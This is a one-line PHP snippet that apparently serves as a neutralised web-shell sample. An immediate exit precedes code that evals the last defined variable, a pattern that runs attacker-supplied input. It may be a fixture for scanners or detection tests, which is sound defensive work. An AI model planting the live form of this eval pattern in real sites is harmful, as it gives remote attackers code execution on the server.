<?php exit; /* inert */ $x=current(get_defined_vars()); eval(end($x));
